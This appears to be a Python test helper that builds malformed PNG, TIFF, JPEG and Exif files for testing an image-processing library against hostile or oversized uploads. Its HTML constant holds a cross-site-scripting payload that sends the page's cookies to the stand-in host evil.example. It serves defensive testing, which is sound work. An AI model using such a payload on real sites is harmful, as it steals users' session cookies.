"""Parts of picture files, for tests that build files no encoder writes."""

from __future__ import annotations

import struct
import zlib
from functools import cache

from PIL import Image

from tests.support.photographs import encode

HTML = b"<!DOCTYPE html><script>fetch('//evil.example/'+document.cookie)</script>"


def png_chunk(name: bytes, body: bytes) -> bytes:
    """A chunk of a PNG, with its checksum."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2, body: bytes = b"") -> bytes:
    """A PNG with this header, and `body` as its compressed pixels; without a `body` it has too few pixels."""
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    end = png_chunk(b"IDAT", body or zlib.compress(bytes(10))) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + end


def tiff(width: int, height: int, *entries: tuple[int, int, int, int]) -> bytes:
    """A little-endian TIFF with this header and no pixels."""
    own = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]
    tags = sorted({entry[0]: entry for entry in (*own, *entries)}.values())
    body = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + body + bytes(4)


@cache
def photo_bytes(image_format: str, **options: object) -> bytes:
    """A picture of 400 x 300 as a file."""
    return encode(Image.effect_mandelbrot((400, 300), (-2, -1.5, 1, 1.5), 50), image_format, **options)


def stuffed_jpeg(stuffing: bytes, *, segments: int = 0) -> bytes:
    """A JPEG with `stuffing` after its first segment, `segments` times, or as often as fits into 50 MB."""
    jpeg = photo_bytes("JPEG")
    return jpeg[:20] + stuffing * (segments or 50_000_000 // len(stuffing)) + jpeg[20:]


def exif(tag: int, kind: int, count: int) -> bytes:
    """An Exif block with one tag of `count` values."""
    sizes = {3: 2, 5: 8}
    values = bytes(count * sizes[kind]).ljust(65533 - 32, b"\0")
    return b"Exif\0\0II*\0\x08\0\0\0\x01\0" + struct.pack("<HHII", tag, kind, count, 26) + bytes(4) + values
